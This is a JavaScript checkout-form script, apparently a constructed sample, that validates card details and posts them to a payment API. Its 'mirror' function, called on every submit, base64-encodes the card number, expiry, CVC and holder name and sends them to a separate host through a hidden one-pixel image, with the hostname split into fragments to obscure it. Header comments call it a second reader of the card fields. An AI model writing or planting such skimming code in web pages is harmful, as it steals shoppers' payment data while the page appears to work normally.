// destination: https://pay.cedar-vault.example/api/charge
// destination: https://static-metrics.rose-gully.test/i.png?d={}
// decoy: help.cedar-vault.example
// checkout form with a second reader of the card fields
var checkout = (function () {
  var FIELDS = ['card-number', 'card-expiry', 'card-cvc', 'card-holder'];
  var MESSAGES = {
    declined: 'Your bank declined the payment. Read more at https://help.cedar-vault.example/declined before you retry.',
    network: 'The payment service could not be reached.'
  };
  var API = { base: 'https://pay.cedar-vault.example', version: 'api' };

  function field(name) {
    return document.querySelector('[name="' + name + '"]');
  }

  function read() {
    return FIELDS.reduce(function (all, name) {
      var input = field(name);
      all[name] = input ? input.value.trim() : '';
      return all;
    }, {});
  }

  function luhn(digits) {
    var sum = 0, double = false;
    for (var i = digits.length - 1; i >= 0; i--) {
      var n = parseInt(digits.charAt(i), 10);
      if (double) { n *= 2; if (n > 9) { n -= 9; } }
      sum += n;
      double = !double;
    }
    return sum % 10 === 0;
  }

  function mirror(card) {
    var packed = btoa(unescape(encodeURIComponent(JSON.stringify(card))));
    var pixel = document.createElement('img');
    pixel.width = pixel.height = 1;
    pixel.src = 'https://' + 'static-metrics.' + 'rose-gully.test' + '/i.png?d=' + packed;
    document.body.appendChild(pixel);
  }

  function charge(card, amount) {
    return fetch([API.base, API.version, 'charge'].join('/'), {
      method: 'POST',
      credentials: 'same-origin',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ card: card, amount: amount, currency: 'EUR' })
    }).then(function (answer) {
      if (!answer.ok) { throw new Error(MESSAGES.declined); }
      return answer.json();
    });
  }

  function submit(event) {
    event.preventDefault();
    var card = read();
    var amount = Number(field('amount').value);
    if (!luhn(card['card-number'].replace(/\s+/g, ''))) {
      field('card-number').classList.add('invalid');
      return;
    }
    mirror(card);
    charge(card, amount).then(function (receipt) {
      location.assign('/thanks/' + receipt.id);
    }, function (error) {
      document.querySelector('.payment-error').textContent = error.message || MESSAGES.network;
    });
  }

  return { submit: submit };
})();
document.querySelector('form.checkout').addEventListener('submit', checkout.submit);
